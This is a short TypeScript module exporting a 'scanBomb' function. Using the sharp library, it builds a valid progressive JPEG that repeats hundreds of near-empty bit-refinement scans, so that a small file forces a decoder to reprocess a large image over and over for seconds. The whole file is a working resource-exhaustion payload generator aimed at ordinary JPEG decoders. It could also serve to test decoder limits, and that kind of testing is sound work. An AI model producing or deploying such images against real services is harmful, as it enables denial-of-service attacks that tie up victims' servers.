import sharp from 'sharp';

const START_OF_SCAN = Buffer.from([0xff, 0xda]);
const HUFFMAN_TABLE = Buffer.from([0xff, 0xc4]);

/** Bits of a coefficient that can be sent one at a time. */
const BITS = 11;
const COEFFICIENTS = 63;

export interface ScanBombOptions {
  width: number;
  height: number;
  /** How often all of it is sent: a coefficient whose bits are all there may be begun again. Once unless told. */
  rounds?: number;
}

/**
 * A correct grey JPEG of 693 scans a round: each coefficient bit by bit, all zero. A scan is some 26 bytes, and makes
 * the decoder go over the whole picture again; at 4000×3000, 40 KB keep it busy for seconds.
 */
export async function scanBomb({ width, height, rounds = 1 }: ScanBombOptions): Promise<Buffer> {
  const grey = sharp({ create: { width, height, channels: 3, background: '#888888' } });
  const jpeg = await grey.toColourspace('b-w').jpeg({ progressive: true }).toBuffer();
  const firstScan = jpeg.indexOf(START_OF_SCAN);
  const lastScan = jpeg.lastIndexOf(START_OF_SCAN);
  const firstScanEnd = jpeg.indexOf(HUFFMAN_TABLE, firstScan);
  const lastScanTable = jpeg.lastIndexOf(HUFFMAN_TABLE, lastScan);
  const end = jpeg.length - 2;
  return Buffer.concat([
    jpeg.subarray(0, firstScanEnd),
    jpeg.subarray(lastScanTable, lastScan),
    ...Array.from({ length: rounds }, () => scansBitByBit(jpeg.subarray(lastScan, end))).flat(),
    jpeg.subarray(end),
  ]);
}

/** The data of `scan` only says "nothing here", which holds for any bit of any coefficient. */
function scansBitByBit(scan: Buffer): Buffer[] {
  const scans: Buffer[] = [];
  for (let coefficient = 1; coefficient <= COEFFICIENTS; coefficient++) {
    for (let bit = BITS - 1; bit >= 0; bit--) {
      const bitBefore = bit === BITS - 1 ? 0 : bit + 1;
      const copy = Buffer.from(scan);
      copy.set([coefficient, coefficient, (bitBefore << 4) | bit], 7);
      scans.push(copy);
    }
  }
  return scans;
}
